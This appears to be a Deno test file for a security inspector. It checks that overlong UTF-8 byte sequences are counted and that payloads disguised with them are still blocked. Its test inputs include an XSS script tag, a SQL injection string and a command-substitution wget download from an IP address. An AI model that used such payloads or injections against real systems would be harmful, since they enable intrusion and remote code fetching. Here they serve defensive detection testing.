/** ASCII that is written in more bytes than it has. */
import assert from "node:assert/strict";
import { planOf } from "./inspect_fixture.ts";
import { inspect } from "./inspect.ts";
import { overlongBytes } from "./overlong.ts";

/** Every sign of the text in two bytes, letters, digits and spaces as they are. */
function overlong(text: string): Uint8Array {
  return Uint8Array.from(
    [...text].flatMap((character) => {
      const code = character.charCodeAt(0);
      return /[\w ]/.test(character) ? [code] : [0xc0 | code >> 6, 0x80 | code & 0x3f];
    }),
  );
}

Deno.test("overlongBytes() counts pairs, not leads without a second byte nor characters of UTF-8", () => {
  const count = (...bytes: number[]): number => overlongBytes(Uint8Array.from(bytes), 0, bytes.length);
  assert.equal(count(0xc0, 0xbc, 0x61, 0xc1, 0x9c), 4);
  assert.equal(count(0xc0, 0xc0, 0xaf), 2);
  assert.equal(count(0xc0, 0x2e, 0xc3, 0xa4, 0xc0), 0);
});

Deno.test("a text is searched though all of its signs are overlong, and other data of such bytes passes", () => {
  const plan = planOf();
  for (const text of ["<script>alert(1)</script>", "' OR '1'='1' --", "$(wget http://203.0.113.9/a)"]) {
    assert.ok(inspect(plan, "payload", overlong(text), "a/b")?.blocking, text);
  }
  assert.equal(inspect(plan, "payload", Uint8Array.of(0xc0, 0x80, 0xc1, 0xbf, 0xc0, 0x90, 0x01), "a/b"), null);
});
